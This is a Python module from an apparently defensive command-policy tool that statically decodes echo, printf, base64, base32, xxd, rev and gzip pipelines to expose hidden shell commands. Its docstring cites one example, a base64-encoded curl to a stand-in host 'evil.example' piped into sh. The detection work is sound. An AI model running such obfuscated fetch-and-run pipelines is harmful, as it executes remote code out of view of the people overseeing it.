"""Static evaluation of the few producers attackers use to hide a command: `echo`, `printf`, `cat`,
`base64 -d`, `base32 -d`, `xxd -r -p`, `openssl base64 -d`, `rev` and `gunzip`, so that
`echo Y3VybCBldmlsLmV4YW1wbGU= | base64 -d | sh` is read as the `curl` it runs.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from gizinterm.policy.shlex_static import ansi_c

MAX_OUTPUT = 1_000_000


def b64decode_loose(text: str) -> str | None:
    import base64  # deferred: only decoding pipelines need it
    import binascii

    data = re.sub(r"\s+", "", text)
    if not data:
        return None
    try:
        raw = base64.b64decode(data + "=" * (-len(data) % 4), validate=False)
    except (binascii.Error, ValueError):
        try:
            raw = base64.urlsafe_b64decode(data + "=" * (-len(data) % 4))
        except (binascii.Error, ValueError):
            return None
    return raw.decode("utf-8", "surrogateescape")


_SPEC = re.compile(r"%(?:(%)|([-+ #0]*)([0-9]*)(?:\.([0-9]*))?([a-zA-Z]))")


def printf(fmt: str, values: list[str]) -> str | None:
    """What bash's `printf FORMAT ARGS…` prints: the format is reused while arguments remain, `%s`/`%b`
    /`%d`/`%c` are filled; anything this cannot model exactly (`-v`, other conversions, octal or `\\c`
    in `%b`) is None, an unknown, never a guess."""
    if fmt.startswith("-"):
        return None
    specs = [m for m in _SPEC.finditer(fmt) if not m.group(1)]
    if any(m.group(5) not in "sbdic" for m in specs):
        return None
    out: list[str] = []
    queue = list(values)
    while True:
        position = 0
        for match in _SPEC.finditer(fmt):
            out.append(ansi_c(fmt[position : match.start()]))
            position = match.end()
            if match.group(1):
                out.append("%")
                continue
            flags, width, precision, conversion = match.group(2, 3, 4, 5)
            value = queue.pop(0) if queue else ""
            if conversion == "b":
                if re.search(r"\\(?:[0-7]|c)", value):
                    return None
                value = ansi_c(value)
            elif conversion in "di":
                if not re.fullmatch(r"[+-]?[0-9]{1,18}", value or "0"):
                    return None
                value = str(int(value or "0"))
            elif conversion == "c":
                value = value[:1]
            if precision is not None and conversion in "sb":
                value = value[: int(precision or "0")]
            if width:
                value = value.ljust(int(width)) if "-" in flags else value.rjust(int(width))
            out.append(value)
        out.append(ansi_c(fmt[position:]))
        if not queue or not specs or sum(len(o) for o in out) > MAX_OUTPUT:
            return "".join(out)[:MAX_OUTPUT]


def output(name: str, args: list[str], stdin: str | None, read_file: Callable[[str], str | None]) -> str | None:
    """What `name args` writes to stdout given `stdin`, or None when it cannot be known statically."""
    flags = {a for a in args if a.startswith("-")}
    files = [a for a in args if not a.startswith("-")]
    if name == "echo":
        text = " ".join(a for a in args if a not in ("-n", "-e", "-E", "-ne", "-en"))
        if "-e" in flags or "-ne" in flags or "-en" in flags:
            text = ansi_c(text)
        return text + "\n"
    if name == "printf" and args:
        return printf(args[0], args[1:])
    if name == "cat":
        if not files:
            return stdin
        parts = [read_file(f) for f in files]
        return None if any(p is None for p in parts) else "".join(p or "" for p in parts)
    source = read_file(files[-1]) if files and name in ("base64", "xxd", "base32") else stdin
    if source is None:
        return None
    if name == "base64" and flags & {"-d", "--decode", "-D", "-di", "-id", "--decode=true"}:
        return b64decode_loose(source)
    if name == "openssl" and "base64" in args and "-d" in args:
        return b64decode_loose(source)
    if name == "base32" and flags & {"-d", "--decode"}:
        import base64
        import binascii

        try:
            return base64.b32decode(re.sub(r"\s+", "", source).upper()).decode("utf-8", "surrogateescape")
        except (binascii.Error, ValueError):
            return None
    if name == "xxd" and "-r" in flags and "-p" in flags:
        try:
            return bytes.fromhex(re.sub(r"\s+", "", source)).decode("utf-8", "surrogateescape")
        except ValueError:
            return None
    if name == "rev":
        return "\n".join(line[::-1] for line in source.split("\n"))
    if name in ("gunzip", "zcat") or (name == "gzip" and "-d" in flags):
        import gzip  # deferred: only a gzip stage pays for it

        try:
            return gzip.decompress(source.encode("utf-8", "surrogateescape"))[:MAX_OUTPUT].decode(
                "utf-8", "surrogateescape"
            )
        except (OSError, EOFError, ValueError):
            return None
    return None
